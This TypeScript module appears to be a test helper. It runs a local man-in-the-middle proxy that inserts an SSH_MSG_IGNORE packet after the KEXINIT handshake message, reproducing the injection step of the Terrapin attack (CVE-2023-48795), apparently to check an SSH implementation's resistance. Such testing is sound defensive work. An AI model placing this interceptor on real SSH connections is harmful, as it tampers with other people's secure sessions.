import { connect, createServer, type Server, type Socket } from 'node:net';

/** Who sends the message that is put in. */
export type Direction = 'to-client' | 'to-server';

export interface Middle {
  readonly port: number;
  /** What it does to connections from now on. */
  puts: Direction | undefined;
  close(): Promise<void>;
}

/** SSH_MSG_IGNORE with no data (RFC 4253, 11.2), as an unencrypted packet. */
const IGNORE = packet(Buffer.from([2, 0, 0, 0, 0]));
const KEXINIT = 20;

/**
 * Somebody in the middle of an SSH connection. It puts a message into one direction behind the first message of its
 * handshake, as the Terrapin attack does (CVE-2023-48795); without a direction it passes on all.
 */
export async function startMiddle(
  target: { readonly host: string; readonly port: number },
  direction: Direction | undefined,
): Promise<Middle> {
  const open = new Set<Socket>();
  const server: Server = createServer((client) => {
    const upstream = connect(target.port, target.host);
    for (const socket of [client, upstream]) {
      open.add(socket);
      socket.on('error', () => {});
      socket.once('close', () => open.delete(socket));
    }
    pass(client, upstream, middle.puts === 'to-server');
    pass(upstream, client, middle.puts === 'to-client');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const middle: Middle = {
    puts: direction,
    port: typeof address === 'object' && address !== null ? address.port : 0,
    close: () => {
      for (const socket of open) socket.destroy();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
  return middle;
}

function pass(from: Socket, to: Socket, puts: boolean): void {
  let seen: Buffer | undefined = puts ? Buffer.alloc(0) : undefined;
  from.on('data', (bytes: Buffer) => {
    if (seen === undefined) return void to.write(bytes);
    seen = Buffer.concat([seen, bytes]);
    const end = endOfKexInit(seen);
    if (end === undefined) return;
    to.write(Buffer.concat([seen.subarray(0, end), IGNORE, seen.subarray(end)]));
    seen = undefined;
  });
  from.once('end', () => to.end());
  from.once('close', () => to.destroy());
}

/** Where the first packet ends, behind the line of the version. */
function endOfKexInit(bytes: Buffer): number | undefined {
  const line = bytes.indexOf('\n') + 1;
  if (line === 0 || bytes.length < line + 6) return undefined;
  const end = line + 4 + bytes.readUInt32BE(line);
  if (bytes[line + 5] !== KEXINIT) throw new Error('the first message is no KEXINIT');
  return bytes.length < end ? undefined : end;
}

/** RFC 4253, 6: padded to a multiple of eight, at least four bytes of it. */
function packet(payload: Buffer): Buffer {
  const padding = 8 - ((payload.length + 5) % 8) + (8 - ((payload.length + 5) % 8) < 4 ? 8 : 0);
  const bytes = Buffer.alloc(5 + payload.length + padding);
  bytes.writeUInt32BE(1 + payload.length + padding, 0);
  bytes.writeUInt8(padding, 4);
  payload.copy(bytes, 5);
  return bytes;
}
